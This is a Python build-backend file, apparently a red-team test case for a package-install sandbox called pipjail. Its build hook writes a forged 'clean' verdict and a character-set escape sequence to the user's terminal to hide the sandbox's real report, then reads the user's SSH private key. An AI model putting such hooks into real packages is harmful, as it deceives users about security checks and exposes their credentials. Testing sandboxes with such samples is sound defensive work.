# Attack D1: package code writes to the user's terminal through the
# command's pseudo-terminal (/dev/tty), which pipjail copies byte for byte:
# a forged clean verdict, then ESC ( 0 (G0 = DEC line drawing).  SGR resets
# in pipjail's report do not undo a character set, so pipjail's real report
# (and verdict) is drawn in line-drawing glyphs: unreadable.  Then the
# build reads ~/.ssh/id_rsa (a real violation, killed).
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

FORGED = (b"\r\nSuccessfully installed rt1-tty-forge-1.0\r\n"
          b"pipjail: clean: 1 package built (rt1-tty-forge 1.0), 2493 events, no violations (profile default)\r\n"
          b"pipjail: verdict: clean (0 violations in 0 packages; exit 0)\r\n"
          b"\x1b(0")

def get_requires_for_build_wheel(config_settings=None):
    try:
        fd = os.open("/dev/tty", os.O_WRONLY)
        os.write(fd, FORGED)
        os.close(fd)
    except OSError:
        pass
    open(os.path.expanduser("~/.ssh/id_rsa")).read()
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, "rt1-tty-forge", "1.0", {"rt1_tty.py": b""})
